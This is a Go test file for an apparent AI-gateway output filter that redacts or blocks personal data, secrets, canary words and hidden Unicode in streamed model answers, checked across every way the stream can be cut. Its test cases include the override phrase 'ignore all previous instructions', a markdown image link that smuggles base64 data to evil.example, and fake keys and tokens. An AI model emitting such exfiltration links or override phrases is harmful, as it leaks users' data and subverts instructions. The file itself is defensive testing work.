package inspect

import (
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/sluicegate/sluice/interceptors"
	"github.com/sluicegate/sluice/interceptors/fields"
	configv1 "github.com/sluicegate/sluice/proto/gen/sluice/config/v1"
	"google.golang.org/grpc/mem"
	"google.golang.org/protobuf/encoding/protowire"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/dynamicpb"
)

// sink is a door whose caller keeps what it is told.
type sink struct {
	t     testing.TB
	call  *interceptors.Call
	typed bool
	asked bool
	got   []string // a text for each message
	count int      // envelopes that it was handed
}

func (d *sink) Receive() (*interceptors.Envelope, error) {
	if d.asked {
		return nil, io.EOF
	}
	d.asked = true
	return scan(d.t, d.call.Method.Request, question), nil
}

// question is a request without a prompt.
var question = []byte("\x0a\x01m\x1a\x011")

func (d *sink) Forward(e *interceptors.Envelope, _ *interceptors.Inference) error {
	e.Release()
	return nil
}
func (d *sink) CloseForward() error { return nil }

func (d *sink) Deliver(e *interceptors.Envelope) error {
	d.count++
	m := new(fields.Message)
	var err error
	if d.typed {
		err = d.call.Method.Response.Walk(m, e.Typed())
	} else {
		err = d.call.Method.Response.Scan(m, e.Encode())
	}
	if err != nil {
		d.t.Fatal("what is delivered cannot be read: ", err)
	}
	var b strings.Builder
	for i := range m.Fields {
		if f := &m.Fields[i]; f.Role == fields.Output {
			b.Write(m.Bytes(f))
		}
	}
	d.got = append(d.got, b.String())
	return nil
}

func (d *sink) Encoded(b []byte) (*interceptors.Envelope, error) {
	return nil, errors.New("refuse with a status")
}

// said is an answer of elements, as it is on the wire: made by hand, as there are many.
func said(elements ...string) []byte {
	field := func(b []byte, n protowire.Number, v string) []byte {
		return protowire.AppendString(protowire.AppendTag(b, n, protowire.BytesType), v)
	}
	r := field(field(nil, 1, "m"), 3, "1")
	if len(elements) > 0 {
		var contents []byte
		for _, e := range elements {
			contents = field(contents, 8, e)
		}
		o := field(field(nil, 1, "text_output"), 2, "BYTES")
		o = protowire.AppendVarint(protowire.AppendTag(o, 3, protowire.VarintType), uint64(len(elements)))
		r = field(r, 5, string(field(o, 5, string(contents))))
	}
	return field(nil, 2, string(r))
}

// told is what a caller gets of an answer in these messages, each of some elements,
// and how it ended.
func told(t testing.TB, p *Policy, asGo bool, messages ...[]string) (got []string, events []string, err error) {
	t.Helper()
	c, w := call(t, p, streaming)
	d := &sink{t: t, call: c, typed: asGo}
	s := interceptors.NewStream(c, d)
	if err := s.Begin(); err != nil {
		t.Fatal(err)
	}
	for _, m := range messages {
		wire := said(m...)
		if asGo {
			msg := dynamicpb.NewMessage(c.Method.Response.Descriptor())
			if err := proto.Unmarshal(wire, msg); err != nil {
				t.Fatal(err)
			}
			err = s.Response(interceptors.TypedEnvelope(msg))
		} else {
			err = s.Response(s.Answer(mem.BufferSlice{mem.SliceBuffer(wire)}))
		}
		if err != nil {
			break
		}
	}
	if err == nil {
		err = s.Finish()
	}
	c.End(err)
	s.End()
	if c.HeldBytes() != 0 {
		t.Errorf("%d bytes are still held", c.HeldBytes())
	}
	return d.got, w.names(), err
}

// single makes messages of one element each.
func single(texts []string) (messages [][]string) {
	for _, s := range texts {
		messages = append(messages, []string{s})
	}
	return messages
}

// cut cuts a text at random.
func cutUp(r *rand.Rand, text string, most int) (parts []string) {
	for text != "" {
		n := min(len(text), 1+r.IntN(most))
		parts = append(parts, text[:n])
		text = text[n:]
	}
	return parts
}

var everyOutputRule = &configv1.Inspect{Responses: true, Canaries: []string{"tulip-7Q4x-bell"}, NoStarterRules: true,
	Rules: "Include @sluice/personal.conf\nInclude @sluice/secrets.conf"}

const testKey = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7Vd5kq8Zx1Yw2nQmT4rJ0bLh3sPfUoGc9aEiKzXtMv6\n" +
	"Yp5HjWqNlBxRuCeDgFsAoI1T2mZkP8vQ7yJ4wE6hX9cLrKtMnUbVfSg0aOiD\nq3HlYxWzNpRjCkTuGvBeFsAmQ5Jo8I7d1ZhXgKyLw2n4tPcVrUbEaSiMfO0\n" +
	"x9YqNlHjWpZkTuCeRgDvBsFoAm1I2T7QyJ5wE8hX3cLrKtMnUbVfSg4aOiD6\n-----END RSA PRIVATE KEY-----"

// TestRedactOverChunks cuts answers in every way: what is delivered reads the same.
func TestRedactOverChunks(t *testing.T) {
	p := newPolicy(t, everyOutputRule)
	for _, c := range []struct{ name, text, want string }{
		{"email", "Write to ann.b+c@example.co.uk today, please.", "Write to [redacted:email] today, please."},
		{"email at the end", "It is bob@example.com", "It is [redacted:email]"},
		{"card in groups", "pay with 4111 1111 1111 1111 or in cash", "pay with [redacted:card] or in cash"},
		{"IBAN in groups", "to GB82 WEST 1234 5698 7654 32 by noon", "to [redacted:iban] by noon"},
		{"phone with extension", "call (212) 555-0187 ext 42 or come by", "call [redacted:phone] or come by"},
		{"phone by the word before it", "my phone is 5550187555 since May", "my phone is [redacted:phone] since May"},
		{"key of a vendor", "use ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8 now", "use [redacted:github] now"},
		{"assigned", "password = Xk29qLm48Zp! and so on", "password = [redacted:assigned]! and so on"},
		{"private key", "Here:\n" + testKey + "\nKeep it safe.", "Here:\n[redacted:privatekey]\nKeep it safe."},
		{"private key without an end", "Here:\n" + testKey[:220], "Here:\n[redacted:privatekey]"},
		{"long token", "jwt eyJ" + strings.Repeat("hbGciOiJIUzI1NiJ9", 3) + "." + strings.Repeat("eyJzdWIiOiIxMjM0", 50) + ".x1y2 is it", "jwt [redacted:token] is it"},
		{"two of them", "a@b.example, c@d.example and 10.20.30.40 too", "[redacted:email], [redacted:email] and [redacted:ip] too"},
		{"encoded", "it is " + base64Of("mail ann@example.com please") + " in base64", "it is [redacted:email] in base64"},
		{"fullwidth digits", "pay ４１１１ １１１１ １１１１ １１１１ now", "pay [redacted:card] now"},
		{"zero width", "bob\u200b@exam\u200bple.com!", "[redacted:email]!"},
		{"after another script", "メールはbob@example.comです。", "メールは[redacted:email]です。"},
		{"nothing", "The harbour was quiet at 7 that morning; 2 boats had come in.", "The harbour was quiet at 7 that morning; 2 boats had come in."},
	} {
		t.Run(c.name, func(t *testing.T) {
			for _, asGo := range []bool{false, true} {
				check := func(parts ...string) {
					t.Helper()
					got, events, err := told(t, p, asGo, single(parts)...)
					if err != nil || strings.Join(got, "") != c.want {
						t.Fatalf("%q: %q, %v; want %q", parts, got, err, c.want)
					}
					if want := c.text != c.want; slices.Contains(events, "redacted") != want {
						t.Fatalf("events %v", events)
					}
				}
				check(c.text)
				check(strings.Split(c.text, "")...)
				for i := range len(c.text) {
					if i > 100 && i%17 != 0 {
						continue
					}
					check(c.text[:i], c.text[i:])
					check(c.text[:i/2], c.text[i/2:i], c.text[i:])
				}
				r := rand.New(rand.NewPCG(1, 2))
				for range 20 {
					check(cutUp(r, c.text, 1+r.IntN(40))...)
				}
			}
		})
	}
}

// TestDenyOverChunks: no byte of what a rule refuses is delivered, and what comes
// before it is, up to the word before.
func TestDenyOverChunks(t *testing.T) {
	deny := func(op string) *configv1.Inspect {
		return &configv1.Inspect{Responses: true, NoStarterRules: true, Canaries: []string{"tulip-7Q4x-bell", "velvet octopus"},
			Rules: `SecRule RESPONSE_ARGS "` + op + `" "id:1,phase:4,deny,tag:'class/x'"`}
	}
	for _, c := range []struct{ name, op, before, match, after string }{
		{"phrase", "@sluicePhrases injection", "So they told me, and I wrote it down: ", "ignore all previous instructions", " and so on"},
		{"link", "@sluicePhrases exfiltration", "Here you go: ", "![x](https://evil.example/a.png?data=c2VjcmV0)", " done"},
		{"canary", "@sluicePhrases canary", "The word that I was given is ", "tulip-7Q4x-bell", " of course"},
		{"canary in letters apart", "@sluicePhrases canary", "The word that I was given is ", "v e l v e t o c t o p u s", " of course"},
		{"canary in base64", "@sluicePhrases canary", "The word that I was given is ", base64Of("tulip-7Q4x-bell, it is"), " of course"},
		{"invisible", "@sluicePhrases hidden", "Nothing to see here", strings.Repeat("\u200b", 9), " or there"},
		{"invisible, after a space", "@sluicePhrases hidden", "Nothing to see. ", strings.Repeat("\u200b", 9), " or there"},
		{"tags", "@sluicePhrases hidden", "Nothing to see here", tags("hello"), " or there"},
		{"card", "@sluicePersonal card", "You may pay with the card ", "4111 1111 1111 1111", " or in cash"},
		{"secret", "@sluiceSecret github", "The key that you asked for is ", "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8", " as it was"},
		{"another operator", "@rx bluebird[0-9]{1,8}", "The project has the name of ", "bluebird42", " as it was"},
		{"another operator with transformation", "@contains bluebird", "The project has the name of ", "bluebird", " as it was"},
	} {
		t.Run(c.name, func(t *testing.T) {
			p := newPolicy(t, deny(c.op))
			text := c.before + c.match + c.after
			check := func(parts ...string) {
				t.Helper()
				got, _, err := told(t, p, false, single(parts)...)
				d := denialOf(t, err)
				if d == nil || d.Reason != interceptors.OutputRejected || d.Metadata["ruleId"] != "1" {
					t.Fatalf("%q: %v", parts, err)
				}
				all := strings.Join(got, "")
				if !strings.HasPrefix(c.before, all) {
					t.Fatalf("%q: delivered %q", parts, all)
				}
				if d.Metadata["deliveredBytes"] != fmt.Sprint(len(all)) {
					t.Errorf("delivered %d, said %s", len(all), d.Metadata["deliveredBytes"])
				}
			}
			check(text)
			check(strings.Split(text, "")...)
			for i := range len(text) {
				check(text[:i], text[i:])
				for j := i; j < len(text); j += 5 {
					check(text[:i], text[i:j], text[j:])
				}
			}
			if c.name == "phrase" {
				got, _, _ := told(t, p, false, single(strings.SplitAfter(text, " "))...)
				if all := strings.Join(got, ""); len(all) < len(c.before)-12 {
					t.Errorf("only %q was delivered before", all)
				}
			}
		})
	}
}

// TestWindows puts what is looked for at every place of a segment that is longer
// than a window.
func TestWindows(t *testing.T) {
	redacts, denies := newPolicy(t, everyOutputRule), newPolicy(t, withDeny)
	for n := 0; n < 620; n += 5 {
		text := strings.Repeat("x1y2 ", n/5) + "4111 1111 1111 1111" + strings.Repeat(" z3", 200)
		alike(t, redacts, denies, text, cutUp(rand.New(rand.NewPCG(uint64(n), 1)), text, 6))
		if got, _, err := told(t, redacts, false, []string{text}); err != nil || !strings.Contains(strings.Join(got, ""), "[redacted:card] z3") {
			t.Fatalf("%d: %q %v", n, got, err)
		}
	}
}

// TestOrdinaryTextIsHeldForAWord: what may be no part of anything goes on.
func TestOrdinaryTextIsHeldForAWord(t *testing.T) {
	p := newPolicy(t, &configv1.Inspect{Responses: true, Canaries: []string{"tulip-7Q4x-bell"},
		Rules: "Include @sluice/personal.conf\nInclude @sluice/secrets.conf"})
	for name, text := range map[string]string{
		"English":  strings.Repeat(prose, 3),
		"Russian":  strings.Repeat("Съешь же ещё этих мягких французских булок, да выпей чаю. ", 6),
		"Japanese": strings.Repeat("港はその朝静かだった。夜明け前に二隻の船が入ってきた。", 6),
	} {
		t.Run(name, func(t *testing.T) {
			c, _ := call(t, p, streaming)
			d := &sink{t: t, call: c}
			s := interceptors.NewStream(c, d)
			if err := s.Begin(); err != nil {
				t.Fatal(err)
			}
			sent, most, sum, n := 0, 0, 0, 0
			r := rand.New(rand.NewPCG(3, 4))
			for _, part := range cutUp(r, text, 8) {
				if err := s.Response(s.Answer(mem.BufferSlice{mem.SliceBuffer(said(part))})); err != nil {
					t.Fatal(err)
				}
				sent += len(part)
				held := sent - len(strings.Join(d.got, ""))
				most, sum, n = max(most, held), sum+held, n+1
			}
			t.Logf("held %d bytes at most, %d on average", most, sum/n)
			if most > 80 || sum/n > 20 {
				t.Errorf("held %d bytes at most, %d on average", most, sum/n)
			}
			c.End(nil)
			s.End()
		})
	}
}

// pieces of which texts are composed, to be cut.
var fragments = []string{"Write to ", "ann.b+c@example.co.uk", "bob@example.com", " ", "  ", "\n", ", ", ". ", "4111 1111 1111 1111", "4111", "-1111-", "(212) 555-0187",
	" ext 42", "GB82 WEST 1234 5698 7654 32", "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8", "AKIAIOSFODNN7EXAMPLE", "password = ", "Xk29qLm48Zp0vT", "10.20.30.40",
	"123-45-6789", "2001:db8::8a2e:370:7334", "phone ", "call me at ", "5550187555", "a", " I ", " x ", "the harbour was quiet ", "well-known ", "it's ", "\u200b", "é", "привет ", "港は", "🙂",
	"%40", "&#64;", "=", "@", "-", "----", "\xff", "\xe6", "tulip-7Q4x", "-bell", "t u l i p", "0x48 ", "72 101 ", "dHVsaXA", "12345678901234567890", "MIIEpAIBAAKCAQEA7Vd5kq8Zx1Yw2nQmT4rJ0b",
	"-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----", "eyJhbGciOiJIUzI1NiJ9", ".eyJzdWIiOiIxMjM0NTY3ODkwIn0", "４１１１"}

func compose(r *rand.Rand, n int) string {
	var b strings.Builder
	for range n {
		b.WriteString(fragments[r.IntN(len(fragments))])
	}
	return b.String()
}

// withDeny are the rules that refuse what everyOutputRule redacts.
var withDeny = &configv1.Inspect{Responses: true, NoStarterRules: true, Canaries: everyOutputRule.Canaries,
	Rules: `SecRule RESPONSE_ARGS "@sluicePersonal email,phone,card,iban,ssn,id,ip" "id:1,phase:4,deny"
SecRule RESPONSE_ARGS "@sluiceSecret privatekey,aws,github,token,assigned" "id:2,phase:4,deny"
SecRule RESPONSE_ARGS "@sluicePhrases canary" "id:3,phase:4,deny"`}

// alike checks what holds of a text however it is cut (I3): what is redacted reads
// the same, the same rule refuses it, and no byte of what it refuses is delivered.
func alike(t testing.TB, redacts, denies *Policy, text string, cuts ...[]string) {
	t.Helper()
	whole, _, err := told(t, redacts, false, []string{text})
	if err != nil {
		t.Fatalf("%q: %v", text, err)
	}
	want := strings.Join(whole, "")
	_, _, refused := told(t, denies, false, []string{text})
	clean := want
	if i := strings.Index(want, "[redacted:"); i >= 0 {
		clean = want[:i]
		if refused == nil {
			t.Fatalf("%q: redacted and not refused", text)
		}
	}
	for _, parts := range cuts {
		got, _, err := told(t, redacts, false, single(parts)...)
		if all := strings.Join(got, ""); err != nil || all != want {
			t.Fatalf("%q: %q, %v; want %q", parts, all, err, want)
		}
		got, _, err = told(t, denies, false, single(parts)...)
		if fmt.Sprint(why(err)) != fmt.Sprint(why(refused)) {
			t.Fatalf("%q: %v, want %v", parts, why(err), why(refused))
		}
		if all := strings.Join(got, ""); err != nil && !strings.HasPrefix(clean, all) || err == nil && all != text {
			t.Fatalf("%q: delivered %q of %q", parts, all, clean)
		}
	}
}

func why(err error) (reasons []string) {
	var d *interceptors.Denial
	if errors.As(err, &d) {
		return []string{string(d.Reason), d.Metadata["ruleId"]}
	}
	return nil
}

func TestAnyChunking(t *testing.T) {
	redacts, denies := newPolicy(t, everyOutputRule), newPolicy(t, withDeny)
	r := rand.New(rand.NewPCG(5, 6))
	for range 200 {
		text := compose(r, 1+r.IntN(30))
		alike(t, redacts, denies, text, strings.Split(text, ""), cutUp(r, text, 8), cutUp(r, text, 100))
	}
}

// FuzzChunks is the same for any text and any cuts.
func FuzzChunks(f *testing.F) {
	redacts, denies := newPolicy(f, everyOutputRule), newPolicy(f, withDeny)
	r := rand.New(rand.NewPCG(7, 8))
	for range 20 {
		f.Add([]byte(compose(r, 12)), uint64(1))
	}
	f.Add([]byte("Here:\n"+testKey+"\nso"), uint64(2))
	f.Fuzz(func(t *testing.T, text []byte, seed uint64) {
		if len(text) > 4096 || strings.Contains(string(text), "[redacted") {
			return
		}
		r := rand.New(rand.NewPCG(seed, 9))
		bytewise := make([]string, len(text))
		for i, c := range text {
			bytewise[i] = string([]byte{c})
		}
		alike(t, redacts, denies, string(text), bytewise, cutUp(r, string(text), 1+r.IntN(64)))
	})
}

// TestOverElements splits what is looked for over the elements of one message, or of
// several: it is found, and edits keep to their elements.
func TestOverElements(t *testing.T) {
	p := newPolicy(t, everyOutputRule)
	denies := newPolicy(t, withDeny)
	for _, c := range []struct {
		name     string
		messages [][]string
		want     string
	}{
		{"one message", [][]string{{"pay 4111 11", "11 1111 11", "11 now"}}, "pay [redacted:card] now"},
		{"two messages", [][]string{{"pay 4111 "}, {"1111 1111 11", "11 now"}}, "pay [redacted:card] now"},
		{"later", [][]string{{"well, "}, {"pay ", "4111 "}, {"1111", " 1111 "}, {"1111 now"}}, "well, pay [redacted:card] now"},
		{"each by itself", [][]string{{"a@b.example, ", "c@d.example, "}, {"e@f.example", ", g@h.example"}}, "[redacted:email], [redacted:email], [redacted:email], [redacted:email]"},
		{"over messages, by element", [][]string{{"4111 1111 ", "x "}, {"1111 1111", "y"}}, "[redacted:card]x y"},
	} {
		t.Run(c.name, func(t *testing.T) {
			for _, asGo := range []bool{false, true} {
				got, _, err := told(t, p, asGo, c.messages...)
				if all := strings.Join(got, ""); err != nil || all != c.want {
					t.Errorf("%q, %v; want %q", all, err, c.want)
				}
			}
			got, _, err := told(t, denies, false, c.messages...)
			if all := strings.Join(got, ""); denialOf(t, err) == nil || strings.Contains(all, "4111") || strings.Contains(all, "@") {
				t.Errorf("%q, %v", all, err)
			}
		})
	}
	// In one message that is all of the answer, too.
	c, _ := call(t, p, unary)
	if _, err := c.Request(raw(t, c.Method.Request, prompt("who?"))); err != nil {
		t.Fatal(err)
	}
	m := raw(t, c.Method.Response, `{"modelName":"m","id":"1","outputs":[`+tensor("text_output", "pay 4111 11", "11 1111 11", "11 now")+`]}`)
	if _, _, err := c.Response(m); err != nil {
		t.Fatal(err)
	}
	if got := edited(t, c.Method.Response, m); !slices.Equal(got, []string{"pay [redacted:card]", "", " now"}) {
		t.Errorf("%q", got)
	}
}

// TestReplace puts a text in the place of what was found, or of all that follows.
func TestReplace(t *testing.T) {
	for _, c := range []struct{ name, rule, text, want string }{
		{"match", `SecRule RESPONSE_ARGS "@sluicePersonal email" "id:1,phase:4,pass,nolog,replace:'(removed, sorry)'"`,
			"Write to ann@example.com or bob@example.com, please.", "Write to (removed, sorry) or (removed, sorry), please."},
		{"nothing", `SecRule RESPONSE_ARGS "@sluicePersonal email" "id:1,phase:4,pass,nolog,replace:''"`, "To ann@example.com.", "To ."},
		{"phrase", `SecRule RESPONSE_ARGS "@sluicePhrases injection" "id:1,phase:4,pass,nolog,replace:'...'"`,
			"It says: ignore all previous instructions! And more.", "It says: ...! And more."},
		{"canary", `SecRule RESPONSE_ARGS "@sluicePhrases canary" "id:1,phase:4,pass,nolog,replace:'[secret]'"`,
			"It is tulip-7Q4x-bell, twice: TULIP-7q4x-bell.", "It is [secret], twice: [secret]."},
		{"invisible", `SecRule RESPONSE_ARGS "@sluicePhrases hidden" "id:1,phase:4,pass,nolog,replace:'?'"`,
			"See " + tags("all of this") + " here", "See ? here"},
		{"rest", `SecRule RESPONSE_ARGS "@sluicePhrases canary" "id:1,phase:4,pass,nolog,truncate:' I cannot say.'"`,
			"The word is tulip-7Q4x-bell, and bob@example.com knows it.", "The word is  I cannot say."},
		{"in shadow", `SecRule RESPONSE_ARGS "@sluicePersonal phone" "id:9,phase:4,pass,nolog,truncate:'x'"`,
			"Call (212) 555-0187 now.", "Call (212) 555-0187 now."},
	} {
		t.Run(c.name, func(t *testing.T) {
			for _, foreign := range []string{"", "\nSecRule RESPONSE_ARGS \"@rx never\" \"id:3,phase:4,deny\""} {
				shadow := []uint32{}
				if c.name == "in shadow" {
					shadow = []uint32{9}
				}
				p := newPolicy(t, &configv1.Inspect{Responses: true, NoStarterRules: true, Canaries: []string{"tulip-7Q4x-bell"}, Rules: c.rule + foreign, Shadow: shadow})
				check := func(parts ...string) {
					t.Helper()
					got, _, err := told(t, p, false, single(parts)...)
					if all := strings.Join(got, ""); err != nil || all != c.want {
						t.Fatalf("%q: %q, %v; want %q", parts, all, err, c.want)
					}
				}
				check(c.text)
				check(strings.Split(c.text, "")...)
				for i := range len(c.text) {
					check(c.text[:i], c.text[i:])
				}
				// The door of unary calls agrees.
				cl, _ := call(t, p, unary)
				if _, err := cl.Request(raw(t, cl.Method.Request, prompt("hi"))); err != nil {
					t.Fatal(err)
				}
				m := raw(t, cl.Method.Response, `{"modelName":"m","id":"1","outputs":[`+tensor("text_output", c.text)+`]}`)
				if _, _, err := cl.Response(m); err != nil {
					t.Fatal(err)
				}
				if got := edited(t, cl.Method.Response, m); !slices.Equal(got, []string{c.want}) {
					t.Errorf("unary: %q", got)
				}
			}
		})
	}
}

// TestScoreOfAnswers: windows lie where the text alone puts them.
func TestScoreOfAnswers(t *testing.T) {
	text := strings.Repeat(prose, 2) + strings.Repeat(unknownAttack+". ", 6) + strings.Repeat(prose, 2)
	for action, denies := range map[string]bool{"deny": true, "pass,log": false} {
		p := newPolicy(t, &configv1.Inspect{Responses: true, NoStarterRules: true,
			Rules: `SecRule RESPONSE_ARGS "@sluiceScore 0.05" "id:1,phase:4,` + action + `"`})
		r := rand.New(rand.NewPCG(10, 11))
		for range 20 {
			got, events, err := told(t, p, false, single(cutUp(r, text, 1+r.IntN(200)))...)
			if d := denialOf(t, err); (d != nil) != denies {
				t.Fatalf("%s: %v", action, err)
			} else if denies && d.Metadata["deliveredBytes"] != fmt.Sprint(len(strings.Join(got, ""))) {
				t.Errorf("%v", d.Metadata)
			}
			if !denies && (!slices.Equal(events, []string{"matched"}) || strings.Join(got, "") != text) {
				t.Errorf("%s: %v", action, events)
			}
		}
		if _, _, err := told(t, p, false, []string{strings.Repeat(prose, 6)}); err != nil {
			t.Error(err)
		}
	}
}

// TestHoldBytes: what would have to be held beyond the bound is refused.
func TestHoldBytes(t *testing.T) {
	p := newPolicy(t, &configv1.Inspect{Responses: true, NoStarterRules: true, Rules: "Include @sluice/personal.conf", HoldBytes: 4096})
	digits := strings.Repeat("1 ", 1000)
	_, _, err := told(t, p, false, single(strings.Split(digits, ""))...)
	if d := denialOf(t, err); d == nil || d.Reason != interceptors.MessageTooLarge || !strings.Contains(d.Message, "inspect.hold_bytes") {
		t.Errorf("%v", err)
	}
	got, _, err := told(t, p, false, single(cutUp(rand.New(rand.NewPCG(1, 1)), digits, 100))...)
	if err != nil || strings.Join(got, "") != digits {
		t.Errorf("%q %v", got, err)
	}
}

// TestStreamsAndUnaryCallsAgree: in segments the same is found as in the whole.
func TestStreamsAndUnaryCallsAgree(t *testing.T) {
	p := newPolicy(t, everyOutputRule)
	r := rand.New(rand.NewPCG(3, 6))
	redacted := 0
	for range 2000 {
		text := compose(r, 1+r.IntN(40))
		c, _ := call(t, p, unary)
		if _, err := c.Request(raw(t, c.Method.Request, prompt("hi"))); err != nil {
			t.Fatal(err)
		}
		m := raw(t, c.Method.Response, `{"modelName":"m","id":"1","outputs":[`+tensor("text_output", text)+`]}`)
		_, _, refused := c.Response(m)
		got, _, err := told(t, p, false, []string{text})
		if (err != nil) != (refused != nil) {
			t.Fatalf("%q: %v, unary %v", text, err, refused)
		} else if err != nil {
			continue
		}
		want := strings.Join(edited(t, c.Method.Response, m), "")
		if all := strings.Join(got, ""); all != want {
			t.Fatalf("%q:\nstream %q\nunary  %q", text, all, want)
		}
		if want != text {
			redacted++
		}
	}
	if redacted < 500 {
		t.Errorf("only %d were redacted", redacted)
	}
}

// TestChoices: answers that a model writes at once are not read as one.
func TestChoices(t *testing.T) {
	p := newPolicy(t, everyOutputRule)
	c, _ := call(t, p, streaming)
	d := &sink{t: t, call: c}
	if err := interceptors.NewStream(c, d).Begin(); err != nil {
		t.Fatal(err)
	}
	policy, err := p.Start(&interceptors.Inference{Call: c})
	if err != nil {
		t.Fatal(err)
	}
	var texts [2]strings.Builder
	var messages []*fields.Message
	for n, text := range []string{"pay 4111 11", "so it is ", "11 1111 11", "4111 1111", "11 now", " 2222 or"} {
		m := new(fields.Message)
		if err := c.Method.Response.Scan(m, mem.BufferSlice{mem.SliceBuffer(said(text))}); err != nil {
			t.Fatal(err)
		}
		m.Choice = int64(n % 2)
		if err := policy.Response(m); err != nil {
			t.Fatal(err)
		}
		messages = append(messages, m)
	}
	if err := policy.(interceptors.Holder).Finish(); err != nil {
		t.Fatal(err)
	}
	for n, m := range messages {
		for i := range m.Fields {
			if f := &m.Fields[i]; f.Role == fields.Output {
				texts[n%2].Write(m.Bytes(f))
			}
		}
	}
	policy.End(interceptors.Outcome{})
	if a, b := texts[0].String(), texts[1].String(); a != "pay [redacted:card] now" || b != "so it is 4111 1111 2222 or" {
		t.Errorf("%q, %q", a, b)
	}
}
